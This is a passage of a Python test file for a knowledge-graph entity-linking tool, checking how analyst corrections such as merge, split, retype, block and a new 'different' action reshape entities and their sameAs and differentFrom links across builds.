    first = link_extractions([VELT_A_PERSON])
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # found, not "no entity ... in the graph"
        kb = link_extractions([VELT_A_PERSON, VELT_A_PLACE],
                              fixes({"action": "retype", "entity": ENTITY_BASE + "person/Velt", "type": "Country"}),
                              published=dict(first.anchors))
    assert _keys(kb)["country/Velt"].same_as == ("person/Velt", "place/Velt")


def test_an_earlier_builds_key_follows_its_mentions_where_a_merge_and_split_put_them():
    """An earlier build's key whose mentions a merge then a split move stays sameAs of the entity holding them."""
    published = {"person/Oskar_V": (("a3", 0, 10, "Oskar Venn"),)}  # a3 0-10 reads "Oskar Venn"
    kb = link_extractions(CORPUS, fixes({"action": "merge", "entities": ["Oskar Venn", "Marta Quell"],
                                         "keep": "Marta Quell"},
                                        {"action": "split", "entity": "Marta Quell", "articles": ["a3"],
                                         "label": "Oskar Venn Jr"}), published=published)
    ents = _keys(kb)
    assert ents["person/Oskar_Venn_Jr"].same_as == ("person/Oskar_V", "person/Oskar_Venn")
    assert ents["person/Marta_Quell"].same_as == ("person/Quell",)


def test_a_carried_key_needs_its_anchor_mentions_to_read_the_same_name():
    """A changed article whose offsets now hold another name carries nothing; nor does a key now live."""
    published = {"person/Old_Name": (("a1", 0, 4, "Other"),),  # a1 0-4 reads "Velt" now
                 "place/Tarnholm": (("a1", 0, 4, "Velt"),)}    # given by Tarnholm itself this time
    kb = link_extractions([VELT_A_PERSON], published=published)
    assert all(e.same_as == () for e in kb.entities)


def test_the_anchors_are_each_keys_first_mention_per_article_and_leave_blocked_entities_out():
    kb = link_extractions([VELT_A_PERSON, VELT_A_PLACE], fixes({"action": "block", "entity": "Tarnholm"}))
    assert dict(kb.anchors) == {"place/Velt": (("a1", 0, 4, "Velt"), ("a2", 0, 4, "Velt")),
                                "person/Oskar_Venn": (("a2", 10, 20, "Oskar Venn"),)}


def test_a_merge_of_a_person_into_a_place_warns_and_says_which_relations_went():
    with pytest.warns(UserWarning) as caught:
        kb = link_extractions(CORPUS, fixes({"action": "merge", "entities": ["Marta Quell", "Tarnholm"],
                                             "keep": "Tarnholm"}))
    messages = [str(w.message) for w in caught]
    assert any("merges entities of Person and Place types; the merged one is a Place, the type of 'Tarnholm'" in m
               for m in messages)
    assert any("drops 1 relation that does not fit a Place: Tarnholm worksFor Borvik Mills" in m for m in messages)
    assert by_label(kb)["Tarnholm"].type == "Place"


def test_a_split_without_a_label_is_named_by_the_articles_it_found_not_an_unknown_one():
    corpus = [ex("a1", ("Kim", "Person", "Kim")), ex("a2", ("Kim", "Person", "Kim"))]
    with pytest.warns(UserWarning, match="no article 'a9' in the graph"):
        kb = link_extractions(corpus, fixes({"action": "split", "entity": "Kim", "articles": ["a2", "a9"]}))
    assert {e.label for e in kb.entities} == {"Kim", "Kim (a2)"}


def test_items_pasted_from_review_text_each_ending_in_a_comma_load(tmp_path):
    """`kgraph review` prints each item followed by a comma; pasted into a list, the last comma is read as absent."""
    path = tmp_path / "fixes.json"
    path.write_text(r'{"version": 1, "corrections": [' '\n'
                    r'    {"action": "block", "entity": "Velt, Tarsk,]", "note": "a \", ]"},' '\n'
                    r'    {"action": "merge", "entities": ["A", "B",], "keep": "A"},' '\n]}\n', encoding="utf-8")
    items = corr.load(path).items
    assert [(i.action, i.entity or i.entities) for i in items] == [("block", "Velt, Tarsk,]"), ("merge", ("A", "B"))]
    assert items[0].note == 'a ", ]'
    path.write_text('{"corrections": [{"action": "block" "entity": "A"},\n]}', encoding="utf-8")
    with pytest.raises(InputError, match=r"not valid JSON \(line 1, column 37: Expecting ',' delimiter\)"):
        corr.load(path)


def test_blocking_another_name_of_an_entity_warns_that_the_whole_entity_goes():
    corpus = [ex("a1", ("Velt Central Bank", "Organization", "Velt Central Bank"), ("VCB", "Organization", "VCB"),
                 ("Ostra Holm", "Person", "Ostra Holm"))]
    kb0 = link_extractions(corpus)
    assert "VCB" in by_label(kb0)["Velt Central Bank"].aliases
    with pytest.warns(UserWarning, match="'vcb' is another name of 'organization/Velt_Central_Bank' "
                                         r"\('Velt Central Bank'\); the block removes that whole entity"):
        kb = link_extractions(corpus, fixes({"action": "block", "entity": "vcb"}))
    assert set(by_label(kb)) == {"Ostra Holm"}
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # its label, in any case, or its key: what the analyst named goes, no warning
        for ref in ("velt central bank", "organization/Velt_Central_Bank"):
            assert set(by_label(link_extractions(corpus, fixes({"action": "block", "entity": ref})))) == {"Ostra Holm"}


# --- stop 65: "different", an analyst's word that two entities are not one --------------------------------------


def test_a_different_item_loads_from_json_csv_and_yaml_and_needs_two_entities():
    item = {"action": "Different", "entities": [" Marta Quell", "Quell\u200b"], "note": "two people", "author": "ed"}
    c = fixes(item).items[0]
    assert (c.action, c.entities, c.describe()) == ("different", ("Marta Quell", "Quell"),
                                                     "#1 different Marta Quell, Quell")
    assert corr.parse_csv("action,entities,note\ndifferent,Marta Quell;Quell,two people\n").items[0].entities == \
        ("Marta Quell", "Quell")
    assert corr.parse_yaml("- {action: different, entities: [Marta Quell, Quell]}").items[0].action == "different"
    with pytest.raises(InputError, match="a different needs at least two entities"):
        fixes({"action": "different", "entities": ["Quell"]})


def test_a_different_item_parts_a_pair_the_build_joined_and_keeps_the_labelled_ones_iri():
    """The build joins the lone "Quell" to "Marta Quell"; the analyst says they are two people."""
    assert "Quell" in by_label(link_extractions(CORPUS))["Marta Quell"].aliases
    for order in (["Marta Quell", "Quell"], ["quell", "person/Marta_Quell"]):
        kb = link_extractions(CORPUS, fixes({"action": "different", "entities": order, "author": "ed"}))
        e = by_label(kb)
        assert e["Marta Quell"].key == "person/Marta_Quell" and "Quell" not in e["Marta Quell"].aliases
        assert e["Quell"].key == "person/Quell" and e["Quell"].articles == ("a2",)
        assert e["Marta Quell"].different_from == ("person/Quell",)
        assert e["Quell"].different_from == ("person/Marta_Quell",)
        assert "person/Quell" not in e["Marta Quell"].same_as  # no longer the same thing
        assert e["Quell"].corrections == (f"#1 different {', '.join(order)} (by ed)",)


def test_a_different_item_is_written_as_owl_different_from_with_its_provenance():
    from rdflib import OWL, PROV, RDFS, Literal

    from kgraph.core.iri import entity_iri
    from kgraph.graph import rdf

    kb = link_extractions(CORPUS, fixes({"action": "different", "entities": ["Borvik", "Borvik Mills"],
                                         "author": "ed", "note": "a shop, not the mill"}))
    g = rdf.to_graph(kb)
    a, b = entity_iri("organization/Borvik"), entity_iri("organization/Borvik_Mills")
    assert (a, OWL.differentFrom, b) in g and (b, OWL.differentFrom, a) in g
    assert (a, PROV.wasInfluencedBy, rdf.CORRECTIONS_SOURCE) in g
    assert Literal("correction #1 different Borvik, Borvik Mills (by ed; a shop, not the mill)") in \
        set(g.objects(a, RDFS.comment))


@pytest.mark.parametrize("first", ["merge", "different"])
def test_a_merge_of_a_pair_a_different_item_keeps_apart_is_skipped_in_either_order(first):
    merge = {"action": "merge", "entities": ["Borvik", "Borvik Mills"]}
    apart = {"action": "different", "entities": ["borvik mills ", "BORVIK"]}
    with warnings.catch_warnings(record=True) as w:
        warnings.simplefilter("always")
        kb = link_extractions(CORPUS, fixes(*((merge, apart) if first == "merge" else (apart, merge))))
    e = by_label(kb)
    assert {"Borvik", "Borvik Mills"} <= set(e) and e["Borvik"].same_as == ()
    assert e["Borvik"].different_from == ("organization/Borvik_Mills",)
    assert any("are kept apart by" in str(x.message) and "the merge is skipped" in str(x.message) for x in w)


def test_a_different_item_naming_an_absent_entity_or_one_entity_twice_warns_and_builds():
    with warnings.catch_warnings(record=True) as w:
        warnings.simplefilter("always")
        kb = link_extractions(CORPUS, fixes({"action": "different", "entities": ["Borvik", "Nobody Here"]},
                                            {"action": "different", "entities": ["Tarnholm", "place/Tarnholm"]}))
    assert all(not e.different_from for e in kb.entities)
    text = " ".join(str(x.message) for x in w)
    assert "no entity 'Nobody Here' in the graph" in text and "do not tell its mentions apart" in text


def test_removing_a_different_item_joins_the_pair_again_at_the_next_build(tmp_path):
    from kgraph.linking.corrections import Corrections

    kept = link_extractions(CORPUS, fixes({"action": "different", "entities": ["Marta Quell", "Quell"]}))
    again = link_extractions(CORPUS, Corrections())
    assert "person/Quell" in {e.key for e in kept.entities}
    assert "person/Quell" not in {e.key for e in again.entities}


def test_a_chain_keeps_no_owl_same_as_of_an_iri_no_graph_ever_gave():
    """Split then retype the split-off part, rename then retype: the part's key under the old type existed only
    between two items of one build; before stop 65 it stayed owl:sameAs ("place/Tarnholm_Rovers")."""
    kb = link_extractions(CORPUS, fixes(
        {"action": "split", "entity": "Tarnholm", "articles": ["a3"], "label": "Tarnholm Rovers"},
        {"action": "retype", "entity": " tarnholm rovers", "type": "Organization"},
        {"action": "rename", "entity": "Borvik", "label": "Borvik Shop"},
        {"action": "retype", "entity": "Borvik Shop", "type": "Place"}))
    e = by_label(kb)
    assert e["Tarnholm Rovers"].key == "organization/Tarnholm_Rovers" and e["Tarnholm Rovers"].same_as == ()
    assert e["Tarnholm"].key == "place/Tarnholm"
    # the IRI the graph gave stays; "organization/Borvik_Shop" never was one
    assert e["Borvik Shop"].key == "place/Borvik_Shop" and e["Borvik Shop"].same_as == ("organization/Borvik",)
    # retype then merge (stop 64's leftover): the retyped key "person/Borvik" was never an IRI either
    kb = link_extractions(CORPUS, fixes({"action": "retype", "entity": "Borvik", "type": "Person"},
                                        {"action": "merge", "entities": ["Oskar Venn", "Borvik"], "keep": "Oskar Venn"}))
    assert by_label(kb)["Oskar Venn"].same_as == ("organization/Borvik",)


def test_a_different_item_moves_a_name_only_where_its_article_does_not_write_the_other():
    """ "Leon" beside "Bernardino Leon" in one story is him; a lone "Leon" in another story is the other Leon."""
    # both stories name the Velmar Guild: the build reads the lone given name "Leon" as his surname there
    corpus = [ex("b1", ("Bernardino Leon", "Person", "Bernardino Leon"), ("Leon", "Person", "Leon"),
                 ("Velmar Guild", "Organization", "Velmar Guild")),
              ex("b2", ("Leon", "Person", "Leon"), ("Tarnholm", "Place", "Tarnholm"),
                 ("Velmar Guild", "Organization", "Velmar Guild"))]
    assert len([e for e in link_extractions(corpus).entities if e.type == "Person"]) == 1
    kb = link_extractions(corpus, fixes({"action": "different", "entities": ["Leon", "Bernardino Leon"]}))
    e = by_label(kb)
    assert e["Bernardino Leon"].articles == ("b1",) and e["Bernardino Leon"].mentions == 2
    assert e["Leon"].articles == ("b2",) and e["Leon"].different_from == ("person/Bernardino_Leon",)


def test_a_different_item_naming_an_iri_no_entity_holds_now_reads_its_name():
    """A fresh build of a grown corpus (no earlier build's memory) joined the place-typed "Leon" to "Bernardino
    Leon": the item written against the earlier graph ("place/Leon") still parts them, by the IRI's name."""
    # both stories name the Velmar Guild: the build reads the lone given name "Leon" as his surname there
    corpus = [ex("b1", ("Bernardino Leon", "Person", "Bernardino Leon"), ("Leon", "Person", "Leon"),
                 ("Velmar Guild", "Organization", "Velmar Guild")),
              ex("b2", ("Leon", "Person", "Leon"), ("Tarnholm", "Place", "Tarnholm"),
                 ("Velmar Guild", "Organization", "Velmar Guild"))]
    with warnings.catch_warnings(record=True) as w:
        warnings.simplefilter("always")
        kb = link_extractions(corpus, fixes({"action": "different",
                                             "entities": [ENTITY_BASE + "place/Leon", "Bernardino Leon"]}))
    assert by_label(kb)["Leon"].articles == ("b2",)
    assert any("read as the name 'Leon'" in str(x.message) for x in w)


def test_a_different_item_naming_a_town_and_its_club_by_one_name_takes_the_two():
    """ "Pellum" labels the town and the club a split made: twice in one item, in any case, it names both; the
    same name written twice the same way is one entity named twice, with a warning."""
    split = {"action": "split", "entity": "Pellum", "context": ["club", "match"], "label": "Pellum",
             "type": "Organization"}
    assert {e.key for e in link_extractions(CLUB_AND_TOWN, fixes(split)).entities} == {
        "place/Pellum", "organization/Pellum"}
    kb = link_extractions(CLUB_AND_TOWN, fixes(split, {"action": "different", "entities": ["Pellum", " PELLUM"]}))
    assert {e.key: e.different_from for e in kb.entities} == {"place/Pellum": ("organization/Pellum",),
                                                               "organization/Pellum": ("place/Pellum",)}
    # a name beside the key of one of the two names the other ("Pellum" beside "organization/Pellum": the town)
    kb = link_extractions(CLUB_AND_TOWN, fixes(split, {"action": "different",
                                                       "entities": ["Pellum", ENTITY_BASE + "organization/Pellum"]}))
    assert {e.key: e.different_from for e in kb.entities}["place/Pellum"] == ("organization/Pellum",)
    with warnings.catch_warnings(record=True) as w:
        warnings.simplefilter("always")
        kb = link_extractions(CLUB_AND_TOWN, fixes(split, {"action": "different", "entities": ["Pellum", "Pellum"]}))
    assert all(not e.different_from for e in kb.entities)
    assert any("names one entity twice" in str(x.message) for x in w)


@pytest.mark.parametrize("first", ["merge", "different"])
def test_a_merge_of_a_town_and_its_club_kept_apart_by_their_one_name_is_skipped(first):
    split = {"action": "split", "entity": "Pellum", "context": ["club", "match"], "label": "Pellum",
             "type": "Organization"}
    merge = {"action": "merge", "entities": ["place/Pellum", "organization/Pellum"]}
    apart = {"action": "different", "entities": ["Pellum", "pellum"]}
    with warnings.catch_warnings(record=True) as w:
        warnings.simplefilter("always")
        kb = link_extractions(CLUB_AND_TOWN, fixes(split, *((merge, apart) if first == "merge" else (apart, merge))))
    assert {e.key for e in kb.entities} == {"place/Pellum", "organization/Pellum"}
    assert any("the merge is skipped" in str(x.message) for x in w)


def _team_corpus():
    """A match report naming Portugal's team and a story naming the country: two "Portugal" entities."""
    from .test_identity import found

    report = ("Portugal beat Chile 2-0 in Lisbon on Sunday. The striker scored twice, the goalkeeper saved a penalty "
              "and the coach praised the fans.")
    kinds = [("Portugal", "Country"), ("Chile", "Country")]
    return [found("a", report, *kinds), found("b", "Portugal signed a trade deal with Chile on Monday.", *kinds)]



def test_a_national_team_is_found_by_the_label_it_shows():
    def quiet(*items):
        with warnings.catch_warnings():
            warnings.simplefilter("error")  # found as one entity: no "ambiguous", "another name" or "not found"
            return link_extractions(_team_corpus(), fixes(*items))

    got = by_label(quiet({"action": "rename", "entity": "Portugal (national team)", "label": "Seleccao"}))
    assert got["Seleccao"].type == "Organization" and got["Seleccao"].articles == ("a",)
    assert got["Seleccao"].same_as == ("organization/Portugal",) and got["Portugal"].type == "Country"
    kb = quiet({"action": "block", "entity": "Portugal (national team)"})
    assert {(e.type, e.label) for e in kb.entities if "Portugal" in e.label} == {("Country", "Portugal")}
    got = by_label(quiet({"action": "merge", "entities": ["Chile (national team)", "Portugal (national team)"],
                          "keep": "Portugal (national team)"}))
    assert got["Portugal (national team)"].key == "organization/Portugal"  # the kept one keeps its label and IRI
    assert got["Portugal (national team)"].same_as == ("organization/Chile",)


def test_a_national_team_is_still_found_by_its_plain_name():
    report = _team_corpus()[:1]  # the match report alone: "Portugal" names the team only
    assert by_label(link_extractions(report))["Portugal (national team)"].aliases == ("Portugal",)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        got = by_label(link_extractions(report, fixes({"action": "rename", "entity": "Portugal", "label": "Seleccao"},
                                                      {"action": "retype", "entity": "Chile", "type": "Person"})))
    assert got["Seleccao"].same_as == ("organization/Portugal",)
    assert got["Chile"].type == "Person"  # retyped, it is no team and shows the name alone


def test_a_national_team_retyped_a_country_joins_its_country_and_keeps_the_countrys_iri():
    with warnings.catch_warnings(record=True) as w:
        warnings.simplefilter("always")
        kb = link_extractions(_team_corpus(), fixes({"action": "retype", "entity": "Portugal (national team)",
                                                     "type": "Country"}))
    portugal = [e for e in kb.entities if "Portugal" in e.label]
    assert [(e.key, e.type, e.articles) for e in portugal] == [("country/Portugal", "Country", ("a", "b"))]
    assert portugal[0].same_as == ("organization/Portugal",)  # the team's IRI still resolves
    assert any("which it joins" in str(x.message) for x in w)
